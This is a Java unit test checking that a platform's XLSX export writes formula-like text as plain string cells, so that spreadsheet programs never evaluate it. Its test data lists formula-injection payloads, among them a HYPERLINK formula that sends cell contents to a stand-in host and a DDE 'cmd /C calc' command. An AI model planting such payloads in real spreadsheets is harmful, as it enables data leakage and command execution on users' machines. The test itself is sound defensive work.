package vn.lantoa.platform.export;

import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every export is an XLSX written here. Text that looks like a formula (a unit's name "=HYPERLINK(...)", an answer
 * "-2+3") is written as a text cell: Excel and LibreOffice show it as typed and never run it.
 */
class XlsxTableTest {

    static final List<String> FORMULA_LIKE = List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1");

    @Test
    void textThatLooksLikeAFormulaIsWrittenAsTextNeverAsAFormula() throws IOException {
        List<List<Object>> rows = FORMULA_LIKE.stream().map(s -> List.<Object>of(s, 5)).toList();
        byte[] xlsx = new XlsxTable("Báo cáo", "=cmd|' /C calc'!A0", List.of("=Tên", "Số"), rows).bytes();

        String sheet = entry(xlsx, "xl/worksheets/sheet1.xml");
        assertThat(sheet).doesNotContain("<f>").doesNotContain("<f ");
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            Map<Integer, Row> byNumber = workbook.getFirstSheet().read().stream().collect(Collectors.toMap(Row::getRowNum, r -> r));
            assertThat(byNumber.get(1).getCell(0).getType()).isEqualTo(CellType.STRING);
            assertThat(byNumber.get(3).getCell(0).getType()).isEqualTo(CellType.STRING);
            for (int i = 0; i < FORMULA_LIKE.size(); i++) {
                // The title, an empty row and the headers come first; the rows start on the fourth line.
                Row row = byNumber.get(4 + i);
                Cell cell = row.getCell(0);
                assertThat(cell.getType()).as(FORMULA_LIKE.get(i)).isEqualTo(CellType.STRING);
                assertThat(cell.asString()).isEqualTo(FORMULA_LIKE.get(i));
                assertThat(row.getCell(1).getType()).isEqualTo(CellType.NUMBER);
            }
        }
    }

    private static String entry(byte[] zip, String name) throws IOException {
        // The workbook's entries carry their sizes after the data, which ZipInputStream cannot read: go through a file.
        Path file = Files.createTempFile("lantoa-xlsx-", ".xlsx");
        try (ZipFile workbook = new ZipFile(Files.write(file, zip).toFile())) {
            ZipEntry entry = workbook.getEntry(name);
            assertThat(entry).as(name).isNotNull();
            return new String(workbook.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
        } finally {
            Files.delete(file);
        }
    }
}
